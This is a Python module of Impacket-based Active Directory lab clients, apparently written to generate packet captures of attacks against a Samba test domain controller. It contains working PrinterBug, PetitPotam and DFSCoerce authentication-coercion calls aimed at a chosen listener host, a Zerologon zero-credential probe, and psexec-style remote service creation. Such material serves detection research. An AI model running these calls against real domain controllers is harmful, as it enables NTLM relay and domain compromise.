"""AD-lab clients that Impacket's example scripts do not provide, built on
Impacket's DCE-RPC stack the way the public attack tools build them.

Run through labrun.py (which records every request); each function takes its
arguments as strings from the command line.
"""

import contextlib
import os

from impacket.dcerpc.v5 import epm, nrpc, rprn, rpcrt, scmr, srvs, transport, wkst
from impacket.dcerpc.v5.dtypes import DWORD, LONG, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.uuid import uuidtup_to_bin

import labconf as conf

# MS-EFSR over \lsarpc, \samr, \netlogon (the interface PetitPotam binds there).
EFSR_LSARPC = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
# MS-DFSNM (DFSCoerce).
DFSNM = uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))


class EfsRpcOpenFileRaw(NDRCALL):
    """MS-EFSR 3.1.4.2.1, opnum 0."""

    opnum = 0
    structure = (("FileName", WSTR), ("Flags", LONG))


class EfsRpcOpenFileRawResponse(NDRCALL):
    structure = (("hContext", "20s"), ("ErrorCode", DWORD))


class NetrDfsAddStdRoot(NDRCALL):
    """MS-DFSNM 3.1.4.4.1, opnum 12."""

    opnum = 12
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("Comment", WSTR), ("ApiFlags", DWORD))


class NetrDfsAddStdRootResponse(NDRCALL):
    structure = (("ErrorCode", DWORD),)


def _smb(pipe, iface, auth_level=None, kerberos=False):
    t = transport.DCERPCTransportFactory(r"ncacn_np:%s[\pipe\%s]" % (conf.DC_IP, pipe))
    t.setRemoteName(conf.DC_FQDN)
    t.set_credentials(conf.ADMIN, conf.ADMIN_PASSWORD, conf.REALM if kerberos else conf.DOMAIN)
    if kerberos:
        t.set_kerberos(True, conf.DC_IP)
    if os.environ.get("LAB_SMB_DIALECT") == "2.1":
        from impacket.smb3structs import SMB2_DIALECT_21

        t.preferred_dialect(SMB2_DIALECT_21)
    dce = t.get_dce_rpc()
    if auth_level is not None:
        dce.set_auth_level(auth_level)
    dce.connect()
    dce.bind(iface)
    return dce


def _tcp(iface, port=None):
    if port is None:
        binding = epm.hept_map(conf.DC_IP, iface, protocol="ncacn_ip_tcp")
    else:
        binding = "ncacn_ip_tcp:%s[%d]" % (conf.DC_IP, port)
    t = transport.DCERPCTransportFactory(binding)
    dce = t.get_dce_rpc()
    dce.connect()
    dce.bind(iface)
    return dce


@contextlib.contextmanager
def accept_rejected_contexts():
    """Samba has no MS-EFSR: it answers the bind with the context rejected
    (abstract syntax not supported), where Impacket would stop. The coercion
    request is sent anyway on that context id, so it is on the wire as the
    attack tool sends it against Windows; Samba answers with a fault."""
    original = rpcrt.MSRPCBindAck.getCtxItem

    def get(self, index):
        item = original(self, index)
        item["Result"] = 0
        return item

    rpcrt.MSRPCBindAck.getCtxItem = get
    try:
        yield
    finally:
        rpcrt.MSRPCBindAck.getCtxItem = original


def _attempt(what, fn):
    """Samba refuses or faults most attack calls; the request is on the wire,
    which is what the capture is for."""
    try:
        return fn()
    except (DCERPCException, OSError) as e:
        print("%s: %s" % (what, str(e).splitlines()[0][:120]))
        return None


def discovery():
    """srvsvc and wkssvc host discovery (what net view / netview.py do)."""
    dce = _smb("srvsvc", srvs.MSRPC_UUID_SRVS)
    _attempt("NetrServerGetInfo", lambda: srvs.hNetrServerGetInfo(dce, 101))
    _attempt("NetrShareEnum", lambda: srvs.hNetrShareEnum(dce, 1, serverName="\\\\%s\x00" % conf.DC_NAME))
    _attempt("NetrSessionEnum", lambda: srvs.hNetrSessionEnum(dce, NULL, NULL, 10))
    dce.disconnect()
    dce = _smb("wkssvc", wkst.MSRPC_UUID_WKST)
    _attempt("NetrWkstaGetInfo", lambda: wkst.hNetrWkstaGetInfo(dce, 100))
    _attempt("NetrWkstaUserEnum", lambda: wkst.hNetrWkstaUserEnum(dce, 1))
    dce.disconnect()


def printerbug(listener):
    """MS-RPRN: open the DC's print server, ask it to notify LISTENER."""
    dce = _smb("spoolss", rprn.MSRPC_UUID_RPRN)
    handle = rprn.hRpcOpenPrinter(dce, "\\\\%s\x00" % conf.DC_NAME)["pHandle"]
    _attempt(
        "RpcRemoteFindFirstPrinterChangeNotificationEx",
        lambda: rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
            dce, handle, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine="\\\\%s\x00" % listener
        ),
    )
    _attempt("RpcClosePrinter", lambda: rprn.hRpcClosePrinter(dce, handle))
    dce.disconnect()


def _efs_open(dce, listener):
    req = EfsRpcOpenFileRaw()
    req["FileName"] = "\\\\%s\\lab\\petit.txt\x00" % listener
    req["Flags"] = 0
    _attempt("EfsRpcOpenFileRaw", lambda: dce.request(req))


def petitpotam(listener, privacy="no"):
    """MS-EFSR EfsRpcOpenFileRaw over \\lsarpc, \\samr and \\netlogon, as
    PetitPotam tries them; privacy=yes: one more over \\lsarpc with NTLMSSP
    packet privacy."""
    pipes = ["lsarpc", "samr", "netlogon"] if privacy != "yes" else ["lsarpc"]
    level = rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY if privacy == "yes" else None
    for pipe in pipes:
        with accept_rejected_contexts():
            dce = _smb(pipe, EFSR_LSARPC, auth_level=level)
        _efs_open(dce, listener)
        dce.disconnect()


def dfscoerce(listener):
    """MS-DFSNM NetrDfsAddStdRoot naming LISTENER as the server."""
    dce = _smb("netdfs", DFSNM)
    req = NetrDfsAddStdRoot()
    req["ServerName"] = "%s\x00" % listener
    req["RootShare"] = "lab\x00"
    req["Comment"] = "lab\x00"
    req["ApiFlags"] = 0
    _attempt("NetrDfsAddStdRoot", lambda: dce.request(req))
    dce.disconnect()


def zerologon(tries):
    """CVE-2020-1472 probe: NetrServerReqChallenge then NetrServerAuthenticate3
    with an all-zero client credential, as the public testers do, over TCP (the
    endpoint from the endpoint mapper), a fresh connection per try."""
    binding = epm.hept_map(conf.DC_IP, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    port = int(binding.split("[")[1].rstrip("]"))
    dc = "\\\\%s\x00" % conf.DC_NAME.upper()
    for _ in range(int(tries)):
        dce = _tcp(nrpc.MSRPC_UUID_NRPC, port)
        zero = b"\x00" * 8
        _attempt("NetrServerReqChallenge",
                 lambda: nrpc.hNetrServerReqChallenge(dce, dc, conf.DC_NAME.upper() + "\x00", zero))
        _attempt(
            "NetrServerAuthenticate3",
            lambda: nrpc.hNetrServerAuthenticate3(
                dce, dc, conf.DC_NAME.upper() + "$\x00",
                nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                conf.DC_NAME.upper() + "\x00", zero, 0x212FFFFF,
            ),
        )
        dce.disconnect()


def svcctl_create(service):
    """psexec/smbexec-style service creation: OpenSCManagerW, CreateServiceW
    (Samba has no CreateServiceW and faults), CloseServiceHandle."""
    dce = _smb("svcctl", scmr.MSRPC_UUID_SCMR)
    scm = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    _attempt(
        "CreateServiceW",
        lambda: scmr.hRCreateServiceW(
            dce, scm, service + "\x00", service + "\x00",
            lpBinaryPathName="%%COMSPEC%% /Q /c echo lab ^> \\\\127.0.0.1\\C$\\__%s 2^>^&1\x00" % service,
            dwStartType=scmr.SERVICE_DEMAND_START,
        ),
    )
    _attempt("CloseServiceHandle", lambda: scmr.hRCloseServiceHandle(dce, scm))
    dce.disconnect()
